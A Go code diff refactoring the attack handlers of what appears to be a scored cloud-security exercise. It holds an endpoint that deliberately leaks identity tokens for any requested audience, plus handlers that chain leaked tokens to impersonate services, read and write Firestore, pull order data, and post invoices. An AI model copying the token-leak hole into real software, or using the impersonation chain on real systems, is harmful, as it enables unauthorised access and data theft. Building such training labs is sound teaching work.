@@ -5,12 +5,15 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
-	"github.com/HayoVanLoon/go-commons/logjson"
 	"google.golang.org/api/iterator"
 	"io/ioutil"
-	"log"
+	"lkcommon/auth"
+	"lkcommon/config"
+	"lkcommon/gcp"
+	"lkcommon/httpx"
+	"lkcommon/logctx"
+	"lkcommon/model"
 	"net/http"
-	"strconv"
 )
 
 type Loot struct {
@@ -25,30 +28,35 @@ type AttackResult struct {
 	Log         string `json:"log"`
 }
 
-func addAttacks() {
-	http.HandleFunc("/attacks/1", writeFirestore)
-	http.HandleFunc("/attacks/2", readFirestore)
-	http.HandleFunc("/attacks/3", connectToDeeperService)
-	http.HandleFunc("/attacks/4", impersonatePaymentService)
-	http.HandleFunc("/attacks/5", impersonatePaymentService2)
-	http.HandleFunc("/attacks/6", shortChainToPrintService)
-	http.HandleFunc("/attacks/7", longChainToPrintService)
-	http.HandleFunc("/leaks/id-token", leakToken)
+// attacker runs the attacks with the service's configuration and client.
+type attacker struct {
+	cfg    *config.Config
+	client *auth.ServiceClient
+}
+
+func addAttacks(cfg *config.Config, client *auth.ServiceClient) {
+	a := &attacker{cfg: cfg, client: client}
+	http.HandleFunc("/attacks/1", a.writeFirestore)
+	http.HandleFunc("/attacks/2", a.readFirestore)
+	http.HandleFunc("/attacks/3", a.connectToDeeperService)
+	http.HandleFunc("/attacks/4", a.impersonatePaymentService)
+	http.HandleFunc("/attacks/5", a.impersonatePaymentService2)
+	http.HandleFunc("/attacks/6", a.shortChainToPrintService)
+	http.HandleFunc("/attacks/7", a.longChainToPrintService)
+	http.HandleFunc("/leaks/id-token", a.leakToken)
 	http.HandleFunc("/attacks", listAttacks)
 }
 
 func listAttacks(w http.ResponseWriter, r *http.Request) {
-	if r.Method != http.MethodGet {
-		w.WriteHeader(http.StatusMethodNotAllowed)
-		w.Header().Set("allow", http.MethodGet)
+	if httpx.FilterOutMethod([]string{http.MethodGet}, w, r) {
 		return
 	}
 	_, _ = w.Write([]byte("1,2,3,4,5,6,7"))
 }
 
 func OkAttack(w http.ResponseWriter, r *http.Request, result *AttackResult) {
-	logjson.Info(fmt.Sprintf("[attack] %s successful", r.URL.Path))
-	OkJson(w, result)
+	logctx.Info(r.Context(), fmt.Sprintf("[attack] %s successful", r.URL.Path))
+	httpx.OkJson(w, result)
 }
 
 func OkFail(w http.ResponseWriter, r *http.Request, result *AttackResult, msg string) {
@@ -57,11 +65,11 @@ func OkFail(w http.ResponseWriter, r *http.Request, result *AttackResult, msg st
 	} else {
 		result.Log = msg
 	}
-	logjson.Info(fmt.Sprintf("[attack] %s failed", r.URL.Path))
-	OkJson(w, result)
+	logctx.Info(r.Context(), fmt.Sprintf("[attack] %s failed", r.URL.Path))
+	httpx.OkJson(w, result)
 }
 
-func GetChainedToken(services []string, target string) (string, error) {
+func (a *attacker) GetChainedToken(services []string, target string) (string, error) {
 	if len(services) == 0 {
 		return "", nil
 	}
@@ -69,18 +77,18 @@ func GetChainedToken(services []string, target string) (string, error) {
 	for i := 0; i < len(services)-1; i += 1 {
 		tgt := fmt.Sprintf("%s/leaks/id-token", services[i+1])
 		var err error
-		idToken, err = GetServiceIdToken(services[i], tgt, idToken)
+		idToken, err = a.GetServiceIdToken(services[i], tgt, idToken)
 		if err != nil {
 			return "", fmt.Errorf("could not get token from %s for %s: %s", services[i], tgt, err)
 		}
 	}
 	last := services[len(services)-1]
-	return GetServiceIdToken(last, target, idToken)
+	return a.GetServiceIdToken(last, target, idToken)
 }
 
-func GetServiceIdToken(service, target, token string) (string, error) {
+func (a *attacker) GetServiceIdToken(service, target, token string) (string, error) {
 	url := service + "/leaks/id-token?url=" + target
-	resp, err := GetWithAuth(url, token)
+	resp, err := a.client.GetWithAuth(url, token)
 	if err != nil {
 		return "", err
 	}
@@ -94,58 +102,57 @@ func GetServiceIdToken(service, target, token string) (string, error) {
 	return string(idToken), nil
 }
 
-func leakToken(w http.ResponseWriter, r *http.Request) {
+func (a *attacker) leakToken(w http.ResponseWriter, r *http.Request) {
 	url := r.URL.Query().Get("url")
-	idToken, err := GetIdToken(url)
+	idToken, err := a.client.GetIdToken(url)
 	if err != nil {
-		logjson.Error(fmt.Sprintf("[attack] could not get id token: %s", err))
-		InternalServerError(w, "error in exercise code or setup")
+		logctx.Error(r.Context(), fmt.Sprintf("[attack] could not get id token: %s", err))
+		httpx.InternalServerError(w, "error in exercise code or setup")
 		return
 	}
 	_, _ = w.Write([]byte(idToken))
 }
 
-func connectToDeeperService(w http.ResponseWriter, r *http.Request) {
-	defer LogPanic()
-	log.Printf("starting %s for %s", r.URL.Path, getIp(r))
+func (a *attacker) connectToDeeperService(w http.ResponseWriter, r *http.Request) {
+	defer httpx.LogPanic(r.Context())
+	logctx.Info(r.Context(), fmt.Sprintf("starting %s for %s", r.URL.Path, httpx.GetIp(r)))
 	result := &AttackResult{
 		Explanation: "website-service reaches deeper services",
 	}
 
-	url := numberServiceScheme + "/ranges/payment"
-	resp, err := GetWithAuth(url, "")
+	url := a.cfg.NumberService + "/ranges/payment"
+	resp, err := a.client.GetWithAuth(url, "")
 	if err != nil {
-		logjson.Info(fmt.Sprintf("[attack] could not call %s: %s", url, err))
+		logctx.Info(r.Context(), fmt.Sprintf("[attack] could not call %s: %s", url, err))
 		OkFail(w, r, result, "")
 	} else if resp.StatusCode != http.StatusOK {
-		OkFail(w, r, result, fmt.Sprintf("[attack] could not perform call to %s", numberServiceScheme))
+		OkFail(w, r, result, fmt.Sprintf("[attack] could not perform call to %s", a.cfg.NumberService))
 	} else {
 		result.Points = 10
 		OkAttack(w, r, result)
 	}
 }
 
-func writeFirestore(w http.ResponseWriter, r *http.Request) {
-	defer LogPanic()
-	log.Printf("starting %s for %s", r.URL.Path, getIp(r))
+func (a *attacker) writeFirestore(w http.ResponseWriter, r *http.Request) {
+	defer httpx.LogPanic(r.Context())
+	logctx.Info(r.Context(), fmt.Sprintf("starting %s for %s", r.URL.Path, httpx.GetIp(r)))
 	result := &AttackResult{
 		Explanation: "website-service updates firestore",
 	}
 
-	client, err := GetFirestore()
+	client, err := a.cfg.Gcp().GetFirestore()
 	if err != nil {
-		logjson.Error(fmt.Sprintf("[attack] could not create firestore client: %s", err))
+		logctx.Error(r.Context(), fmt.Sprintf("[attack] could not create firestore client: %s", err))
 		OkFail(w, r, result, "error in exercise code or setup")
 		return
 	}
 
-	o := Order{
-		Customer:    "hacker-" + getIp(r),
-		Name:        "loot",
-		Quantity:    1234567890,
-		OrderNumber: 666,
+	o := model.Order{
+		Customer:    "hacker-" + httpx.GetIp(r),
+		Items:       []model.LineItem{{Sku: "loot", Quantity: 1234567890}},
+		OrderNumber: "666",
 	}
-	d := client.Collection(baseCollection + "/orders").Doc(strconv.Itoa(o.OrderNumber))
+	d := client.Collection(gcp.BaseCollection + "/orders").Doc(o.OrderNumber)
 	_, err = d.Create(context.Background(), o)
 	if err == nil {
 		result.Points = 1000
@@ -155,16 +162,16 @@ func writeFirestore(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
-func readFirestore(w http.ResponseWriter, r *http.Request) {
-	defer LogPanic()
-	log.Printf("starting %s for %s", r.URL.Path, getIp(r))
+func (a *attacker) readFirestore(w http.ResponseWriter, r *http.Request) {
+	defer httpx.LogPanic(r.Context())
+	logctx.Info(r.Context(), fmt.Sprintf("starting %s for %s", r.URL.Path, httpx.GetIp(r)))
 	result := &AttackResult{
 		Explanation: "website-service reads from firestore",
 	}
 
-	client, err := GetFirestore()
+	client, err := a.cfg.Gcp().GetFirestore()
 	if err != nil {
-		logjson.Error(fmt.Sprintf("[attack] could not create firestore client: %s", err))
+		logctx.Error(r.Context(), fmt.Sprintf("[attack] could not create firestore client: %s", err))
 		OkFail(w, r, result, "error in exercise code or setup")
 		return
 	}
@@ -173,7 +180,7 @@ func readFirestore(w http.ResponseWriter, r *http.Request) {
 	di := q.Documents(context.Background())
 	d, err := di.Next()
 	if err != nil && err != iterator.Done {
-		logjson.Info(fmt.Sprintf("[attack] error querying firestore: %s", err))
+		logctx.Info(r.Context(), fmt.Sprintf("[attack] error querying firestore: %s", err))
 		OkFail(w, r, result, "")
 		return
 	}
@@ -188,22 +195,22 @@ func readFirestore(w http.ResponseWriter, r *http.Request) {
 	OkAttack(w, r, result)
 }
 
-func impersonatePaymentService(w http.ResponseWriter, r *http.Request) {
-	defer LogPanic()
-	log.Printf("starting %s for %s", r.URL.Path, getIp(r))
+func (a *attacker) impersonatePaymentService(w http.ResponseWriter, r *http.Request) {
+	defer httpx.LogPanic(r.Context())
+	logctx.Info(r.Context(), fmt.Sprintf("starting %s for %s", r.URL.Path, httpx.GetIp(r)))
 	result := &AttackResult{
 		Explanation: "website-service abuses leaked id token",
 	}
 
-	target := numberServiceScheme + "/ranges/payment"
-	idToken, err := GetServiceIdToken(paymentServiceScheme, target, "")
+	target := a.cfg.NumberService + "/ranges/payment"
+	idToken, err := a.GetServiceIdToken(a.cfg.PaymentService, target, "")
 	if err != nil {
-		logjson.Error(fmt.Sprintf("[attack] could not fetch id token from %s: %s", paymentServiceScheme, err))
+		logctx.Error(r.Context(), fmt.Sprintf("[attack] could not fetch id token from %s: %s", a.cfg.PaymentService, err))
 		OkFail(w, r, result, "")
 		return
 	}
 
-	resp, err := GetWithAuth(target, idToken)
+	resp, err := a.client.GetWithAuth(target, idToken)
 	if err == nil && resp.StatusCode == http.StatusOK {
 		result.Points = 10
 		OkAttack(w, r, result)
@@ -212,23 +219,23 @@ func impersonatePaymentService(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
-func impersonatePaymentService2(w http.ResponseWriter, r *http.Request) {
-	defer LogPanic()
-	log.Printf("starting %s for %s", r.URL.Path, getIp(r))
+func (a *attacker) impersonatePaymentService2(w http.ResponseWriter, r *http.Request) {
+	defer httpx.LogPanic(r.Context())
+	logctx.Info(r.Context(), fmt.Sprintf("starting %s for %s", r.URL.Path, httpx.GetIp(r)))
 	result := &AttackResult{
 		Explanation: "website-service abuses leaked id token and gets data",
 	}
 
-	target := orderServiceScheme + "/leaks/data"
-	idToken, err := GetServiceIdToken(paymentServiceScheme, target, "")
+	target := a.cfg.OrderService + "/leaks/data"
+	idToken, err := a.GetServiceIdToken(a.cfg.PaymentService, target, "")
 	if err != nil {
-		msg := fmt.Sprintf("[attack] could not fetch id token from %s: %s", paymentServiceScheme, err)
-		logjson.Error(msg)
+		msg := fmt.Sprintf("[attack] could not fetch id token from %s: %s", a.cfg.PaymentService, err)
+		logctx.Error(r.Context(), msg)
 		OkFail(w, r, result, msg)
 		return
 	}
 
-	resp, err := GetWithAuth(target, idToken)
+	resp, err := a.client.GetWithAuth(target, idToken)
 	if err == nil && resp.StatusCode == http.StatusOK {
 		bs, _ := ioutil.ReadAll(resp.Body)
 		result.Loot = []Loot{{Key: "data", Data: string(bs)}}
@@ -239,30 +246,25 @@ func impersonatePaymentService2(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
-func shortChainToPrintService(w http.ResponseWriter, r *http.Request) {
-	defer LogPanic()
-	log.Printf("starting %s for %s", r.URL.Path, getIp(r))
+func (a *attacker) shortChainToPrintService(w http.ResponseWriter, r *http.Request) {
+	defer httpx.LogPanic(r.Context())
+	logctx.Info(r.Context(), fmt.Sprintf("starting %s for %s", r.URL.Path, httpx.GetIp(r)))
 	result := &AttackResult{
 		Explanation: "website-service chains leaked id tokens and writes invoice data",
 	}
-	target := printServiceScheme + "/invoices"
-	idToken, err := GetServiceIdToken(orderServiceScheme, target, "")
+	target := a.cfg.PrintService + "/invoices"
+	idToken, err := a.GetServiceIdToken(a.cfg.OrderService, target, "")
 	if err != nil {
-		logjson.Error(fmt.Sprintf("could not fetch idToken from %s: %s", orderServiceScheme, err))
+		logctx.Error(r.Context(), fmt.Sprintf("could not fetch idToken from %s: %s", a.cfg.OrderService, err))
 		OkFail(w, r, result, "")
 		return
 	}
 
-	o := &Order{
-		Customer:    "hackert",
-		Name:        "flag",
-		Quantity:    666,
-		OrderNumber: 666,
-	}
-	bs, _ := json.Marshal(o)
-	resp, err := PostJsonWithAuth(target, bytes.NewReader(bs), idToken)
+	// The print service invoices the order as the order service has it.
+	bs, _ := json.Marshal(map[string]string{"orderNumber": "666"})
+	resp, err := a.client.PostJsonWithAuth(target, bytes.NewReader(bs), idToken)
 	if err != nil {
-		logjson.Error(fmt.Sprintf("could upload data to %s: %s", printServiceScheme, err))
+		logctx.Error(r.Context(), fmt.Sprintf("could upload data to %s: %s", a.cfg.PrintService, err))
 		OkFail(w, r, result, "")
 		return
 	}
@@ -276,30 +278,25 @@ func shortChainToPrintService(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
-func longChainToPrintService(w http.ResponseWriter, r *http.Request) {
-	defer LogPanic()
-	log.Printf("starting %s for %s", r.URL.Path, getIp(r))
+func (a *attacker) longChainToPrintService(w http.ResponseWriter, r *http.Request) {
+	defer httpx.LogPanic(r.Context())
+	logctx.Info(r.Context(), fmt.Sprintf("starting %s for %s", r.URL.Path, httpx.GetIp(r)))
 	result := &AttackResult{
 		Explanation: "website-service chains leaked id tokens and writes distant invoice data",
 	}
-	target := printServiceScheme + "/invoices"
-	idToken, err := GetChainedToken([]string{paymentServiceScheme, orderServiceScheme}, target)
+	target := a.cfg.PrintService + "/invoices"
+	idToken, err := a.GetChainedToken([]string{a.cfg.PaymentService, a.cfg.OrderService}, target)
 	if err != nil {
-		logjson.Error(fmt.Sprintf("[attack] could not fetch id token from chain: %s", err))
+		logctx.Error(r.Context(), fmt.Sprintf("[attack] could not fetch id token from chain: %s", err))
 		OkFail(w, r, result, "")
 		return
 	}
 
-	o := &Order{
-		Customer:    "hackert",
-		Name:        "flag",
-		Quantity:    666,
-		OrderNumber: 666,
-	}
-	bs, _ := json.Marshal(o)
-	resp, err := PostJsonWithAuth(target, bytes.NewReader(bs), idToken)
+	// The print service invoices the order as the order service has it.
+	bs, _ := json.Marshal(map[string]string{"orderNumber": "666"})
+	resp, err := a.client.PostJsonWithAuth(target, bytes.NewReader(bs), idToken)
 	if err != nil {
-		logjson.Error(fmt.Sprintf("[attack] could not upload data to %s: %s", printServiceScheme, err))
+		logctx.Error(r.Context(), fmt.Sprintf("[attack] could not upload data to %s: %s", a.cfg.PrintService, err))
 		OkFail(w, r, result, "")
 		return
 	}